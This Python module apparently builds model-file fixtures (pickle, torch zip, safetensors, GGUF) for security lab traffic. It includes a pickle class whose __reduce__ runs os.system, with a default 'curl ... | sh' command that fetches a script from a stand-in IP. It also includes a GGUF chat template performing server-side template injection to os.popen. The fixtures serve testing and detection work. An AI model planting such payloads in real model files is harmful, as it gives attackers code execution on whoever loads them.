"""Model files for lab traffic: pickles (pickle.dumps, never loaded), torch-style zips, safetensors, GGUF.

What model registries, object stores and model servers carry. A malicious pickle is the
classic one: an object whose `__reduce__` names `os.system`, so unpickling runs a command. It
is only ever *pickled* here; nothing in the lab unpickles anything. Zip members get a fixed
timestamp so the bytes are the same on every run.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import struct
import zipfile
from collections import OrderedDict
from typing import Any

ZIP_TIME = (2026, 1, 1, 0, 0, 0)


class RunsCommandWhenLoaded:
    """Pickles as a call to os.system(command): what a poisoned model file carries."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, (self.command,))


def benign_pickle() -> bytes:
    """A state dict of plain data (an OrderedDict, as torch and sklearn state is ordered)."""
    state = OrderedDict(weight=[0.5, -1.25, 3.0, 0.75], bias=[0.1, -0.2], labels=["cat", "dog"])
    return pickle.dumps(state, protocol=4)


def malicious_pickle(command: str = "curl -s http://203.0.113.66/p.sh | sh") -> bytes:
    return pickle.dumps(RunsCommandWhenLoaded(command), protocol=2)


def torch_zip(data_pkl: bytes, storage: bytes = bytes(16)) -> bytes:
    """torch.save's zip layout: <archive>/data.pkl, data/0, version (stored, fixed timestamps)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in (("archive/data.pkl", data_pkl), ("archive/data/0", storage),
                           ("archive/version", b"3\n")):
            archive.writestr(zipfile.ZipInfo(name, date_time=ZIP_TIME), data)
    return buffer.getvalue()


def safetensors_bytes() -> bytes:
    """u64 header length, a JSON header padded with spaces to 8 bytes, then the tensor data."""
    header = {"__metadata__": {"format": "pt"},
              "embed.weight": {"dtype": "F16", "shape": [4, 2], "data_offsets": [0, 16]},
              "head.bias": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]}}
    text = json.dumps(header, separators=(",", ":")).encode()
    text += b" " * (-len(text) % 8)
    return struct.pack("<Q", len(text)) + text + bytes(24)


def _gguf_string(text: str) -> bytes:
    raw = text.encode()
    return struct.pack("<Q", len(raw)) + raw


GGUF_STRING = 8

#: The chat template most Llama-style GGUF files ship.
PLAIN_CHAT_TEMPLATE = ("{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}"
                       "{% endfor %}")

#: A template that walks from a string to os.popen (the llama-cpp-python CVE-2024-34359 shape).
SSTI_CHAT_TEMPLATE = ("{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}"
                      "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}")


def gguf_bytes(chat_template: str = PLAIN_CHAT_TEMPLATE, name: str = "tiny-llama") -> bytes:
    """A GGUF v3 header: no tensors, string metadata (architecture, name, chat template)."""
    pairs = [("general.architecture", "llama"), ("general.name", name), ("tokenizer.chat_template", chat_template)]
    body = b"".join(_gguf_string(k) + struct.pack("<I", GGUF_STRING) + _gguf_string(v) for k, v in pairs)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(pairs)) + body
